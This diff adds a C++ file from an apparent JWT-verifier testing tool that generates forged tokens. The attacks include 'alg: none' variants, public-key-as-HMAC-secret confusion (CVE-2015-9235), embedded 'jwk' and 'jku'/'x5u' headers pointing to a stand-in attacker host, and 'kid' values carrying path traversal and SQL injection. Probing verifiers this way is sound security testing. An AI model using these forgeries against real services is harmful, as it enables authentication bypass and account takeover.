@@ -1,0 +1,145 @@
+// Kinds that change the header, or sign in another way.
+#include <array>
+
+#include "jwtdomain/base/base64url.h"
+#include "jwtdomain/jwt/jwk.h"
+#include "jwtdomain/probe/forge.h"
+
+namespace jwtdomain::probe::detail {
+namespace {
+
+constexpr const char* kPlace = "https://keys.attacker.example/jwks.json"; // nothing is there
+
+Json with(const Forge& f, const char* name, Json value) {
+    Json header = f.header;
+    header[name] = std::move(value);
+    return header;
+}
+Json without(const Forge& f, const char* name) {
+    Json header = f.header;
+    header.erase(name);
+    return header;
+}
+
+Result<std::string> none(const Forge& f, const char* spelling) {
+    Json header = with(f, "alg", spelling);
+    header.erase("kid");
+    return Forge::attach(header, f.claims, "");
+}
+
+Result<std::string> signed_with_secret(const Forge& f, const Result<std::string>& secret) {
+    if (!secret) return secret;
+    return Forge::hmac(*secret, with(f, "alg", "HS256"), f.claims);
+}
+
+std::string pem_of(const std::string& der) {
+    std::string text = base64_encode(der), out = "-----BEGIN PUBLIC KEY-----\n";
+    for (std::size_t i = 0; i < text.size(); i += 64) out += text.substr(i, 64) + "\n";
+    return out + "-----END PUBLIC KEY-----\n";
+}
+
+enum class Form { pem, pem_without_newline, der, thumbprint };
+
+// What a verifier that asks the token for the algorithm takes for its HMAC secret: CVE-2015-9235.
+Result<std::string> public_key_as(const Forge& f, Form form) {
+    if (!f.control().public_key) return lacks("it needs the public key of the domain");
+    const std::string der = f.control().public_key->spki();
+    switch (form) {
+    case Form::pem: return pem_of(der);
+    case Form::pem_without_newline: {
+        std::string out = pem_of(der);
+        out.pop_back();
+        return out;
+    }
+    case Form::der: return der;
+    case Form::thumbprint: return f.control().public_key->thumbprint();
+    }
+    return {};
+}
+
+Json jwk_of(const PublicKey& key) {
+    Json set = Json::parse(write_jwks({PublicJwk{.key = key, .metadata = {}}}));
+    return set["keys"][0];
+}
+
+struct Entry {
+    std::string_view name;
+    Maker make;
+};
+
+// clang-format off
+constexpr std::array kMakers{
+    Entry{"key-stranger", [](const Forge& f) { return f.sign_by_stranger(f.header, f.claims); }},
+    Entry{"key-stranger-no-kid", [](const Forge& f) { return f.sign_by_stranger(without(f, "kid"), f.claims); }},
+    Entry{"key-stranger-own-kid", [](const Forge& f) {
+        return f.sign_by_stranger(with(f, "kid", f.stranger().public_key().thumbprint()), f.claims);
+    }},
+    Entry{"kid-unknown", [](const Forge& f) { return f.sign(with(f, "kid", "jwtdomain-no-such-key"), f.claims); }},
+    Entry{"kid-foreign", [](const Forge& f) -> Result<std::string> {
+        if (f.control().foreign_kid.empty()) return lacks("no other domain has a key with a kid");
+        return f.sign(with(f, "kid", f.control().foreign_kid), f.claims);
+    }},
+    Entry{"kid-absent", [](const Forge& f) { return f.sign(without(f, "kid"), f.claims); }},
+    Entry{"kid-path", [](const Forge& f) -> Result<std::string> { return Forge::hmac("", Json{{"alg", "HS256"}, {"kid", "../../../../dev/null"}}, f.claims); }},
+    Entry{"kid-query", [](const Forge& f) -> Result<std::string> {
+        return Forge::hmac("jwtdomain", Json{{"alg", "HS256"}, {"kid", "x' UNION SELECT 'jwtdomain"}}, f.claims);
+    }},
+    Entry{"typ-absent", [](const Forge& f) { return f.sign(without(f, "typ"), f.claims); }},
+    Entry{"typ-jwt", [](const Forge& f) -> Result<std::string> {
+        if (f.header.value("typ", "") == "JWT") return lacks("the control is of that type itself");
+        return f.sign(with(f, "typ", "JWT"), f.claims);
+    }},
+    Entry{"typ-logout", [](const Forge& f) { return f.sign(with(f, "typ", "logout+jwt"), f.claims); }},
+    Entry{"id-token", [](const Forge& f) -> Result<std::string> {
+        if (f.header.value("typ", "") == "JWT") return lacks("the control has the type of an ID token");
+        Json claims = f.claims;
+        claims["nonce"] = "jwtdomain";
+        claims["auth_time"] = f.control().now;
+        if (!f.control().scope_claim.empty()) claims.erase(f.control().scope_claim);
+        return f.sign(with(f, "typ", "JWT"), claims);
+    }},
+    Entry{"alg-none", [](const Forge& f) { return none(f, "none"); }},
+    Entry{"alg-None", [](const Forge& f) { return none(f, "None"); }},
+    Entry{"alg-NONE", [](const Forge& f) { return none(f, "NONE"); }},
+    Entry{"alg-nOnE", [](const Forge& f) { return none(f, "nOnE"); }},
+    Entry{"alg-empty", [](const Forge& f) { return none(f, ""); }},
+    Entry{"alg-none-signed", [](const Forge& f) -> Result<std::string> {
+        std::string token = Forge::attach(with(f, "alg", "none"), f.claims, "");
+        return token + f.signature;
+    }},
+    Entry{"alg-absent", [](const Forge& f) { return f.sign(without(f, "alg"), f.claims); }},
+    Entry{"alg-other", [](const Forge& f) {
+        return f.sign(with(f, "alg", f.algorithm() == Algorithm::ES384 ? "ES256" : "ES384"), f.claims);
+    }},
+    Entry{"hmac-empty", [](const Forge& f) { return signed_with_secret(f, std::string()); }},
+    Entry{"hmac-pem", [](const Forge& f) { return signed_with_secret(f, public_key_as(f, Form::pem)); }},
+    Entry{"hmac-pem-bare", [](const Forge& f) { return signed_with_secret(f, public_key_as(f, Form::pem_without_newline)); }},
+    Entry{"hmac-der", [](const Forge& f) { return signed_with_secret(f, public_key_as(f, Form::der)); }},
+    Entry{"hmac-thumbprint", [](const Forge& f) { return signed_with_secret(f, public_key_as(f, Form::thumbprint)); }},
+    Entry{"jwk-embedded", [](const Forge& f) { return f.sign_by_stranger(with(f, "jwk", jwk_of(f.stranger().public_key())), f.claims); }},
+    Entry{"jku", [](const Forge& f) { return f.sign_by_stranger(with(f, "jku", kPlace), f.claims); }},
+    Entry{"x5u", [](const Forge& f) { return f.sign_by_stranger(with(f, "x5u", kPlace), f.claims); }},
+    Entry{"crit-unknown", [](const Forge& f) {
+        Json header = with(f, "crit", Json::array({"jwtdomain"}));
+        header["jwtdomain"] = true;
+        return f.sign(header, f.claims);
+    }},
+    Entry{"crit-empty", [](const Forge& f) { return f.sign(with(f, "crit", Json::array()), f.claims); }},
+    Entry{"b64-false", [](const Forge& f) -> Result<std::string> {
+        Json header = with(f, "b64", false);
+        header["crit"] = Json::array({"b64"});
+        return f.sign(header, f.claims);
+    }},
+};
+// clang-format on
+
+} // namespace
+
+Maker header_maker(std::string_view name) {
+    for (const Entry& entry : kMakers) {
+        if (entry.name == name) return entry.make;
+    }
+    return nullptr;
+}
+
+} // namespace jwtdomain::probe::detail
